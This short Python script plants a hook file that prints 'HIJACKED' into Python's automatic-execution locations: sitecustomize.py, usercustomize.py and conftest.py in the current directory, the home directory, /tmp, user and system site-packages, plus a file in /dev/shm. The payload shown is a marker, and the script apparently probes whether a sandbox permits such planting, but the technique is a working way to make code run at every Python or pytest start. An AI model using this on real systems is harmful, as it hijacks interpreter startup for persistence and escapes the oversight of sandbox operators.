import os, site
hook = "print('HIJACKED')\n"
targets = ["usercustomize.py", "sitecustomize.py", "conftest.py", os.path.expanduser("~/usercustomize.py"), "/tmp/sitecustomize.py",
           "/dev/shm/planted", site.getusersitepackages() + "/usercustomize.py"] + [p + "/sitecustomize.py" for p in site.getsitepackages()]
for path in targets:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
        open(path, "w").write(hook)
        print("planted", path)
    except OSError:
        pass
